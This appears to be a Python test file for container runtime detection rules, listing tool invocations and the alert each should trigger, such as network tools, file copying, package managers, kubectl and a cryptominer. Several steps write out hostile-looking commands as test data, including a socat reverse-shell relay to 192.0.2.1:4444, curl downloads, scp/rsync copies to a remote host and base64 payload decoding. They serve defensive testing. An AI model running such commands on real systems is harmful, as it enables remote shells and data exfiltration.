"""Tools that a container has no use for, and their namesakes."""

from tests.attacks.spawning import SPAWN
from tests.attacks.steps import inside

NAMES = ("apk", "apkx", "curl", "kubectl", "nmap", "rsync", "scp", "socat", "xmrig", "yum")
"""Links to busybox in /opt, which says that it is not them and ends: a process was started under the name."""
PACKAGES = "Launch Package Management Process in Container"
NETWORK_TOOL = "Launch Suspicious Network Tool in Container"
INGRESS = "Launch Ingress Remote File Copy Tools in Container"
COPY = "Launch Remote File Copy Tools in Container"
NPM = "Network Tool Executed During NPM Package Install"
PYTHON = ("-v", "/usr:/usr:ro")

STEPS = (
    inside("package manager", ("/opt/apk", "add", "x"), PACKAGES),
    inside("not a package manager", ("/opt/apkx", "add", "x")),
    inside(
        "network tool of a package", ("/opt/npm", "-c", SPAWN, "/opt/nmap"), PACKAGES, NETWORK_TOOL, NPM, options=PYTHON
    ),
    inside("package manager of a package manager", ("/opt/npm", "-c", SPAWN, "/opt/yum"), PACKAGES, options=PYTHON),
    inside("scanner in a container", ("/opt/nmap", "192.0.2.1"), NETWORK_TOOL),
    inside("relay in a container", ("/opt/socat", "EXEC:sh", "TCP:192.0.2.1:4444"), NETWORK_TOOL),
    inside("netcat without a program in a container", ("/bin/nc", "--help"), NETWORK_TOOL),
    inside("download by curl", ("/opt/curl", "-o", "x", "http://192.0.2.1/x"), INGRESS),
    inside("request by curl", ("/opt/curl", "http://192.0.2.1/x")),
    inside("files copied by scp", ("/opt/scp", "x", "192.0.2.1:"), COPY),
    inside("files copied by rsync", ("/opt/rsync", "x", "192.0.2.1:"), COPY),
    inside("files copied by cp", ("/bin/cp", "/data/one", "/tmp/one")),
    inside("cluster commanded", ("/opt/kubectl", "get", "pods"), "Kubernetes Client Tool Launched in Container"),
    inside("miner in a container", ("/opt/xmrig",), "Known Cryptominer Process Executed"),
    inside(
        "payload decoded by a first process", ("/bin/base64", "-d", "/etc/hostfile"), "Decoding Payload in Container"
    ),
    inside("payload encoded by a first process", ("/bin/base64", "/etc/hostfile")),
)
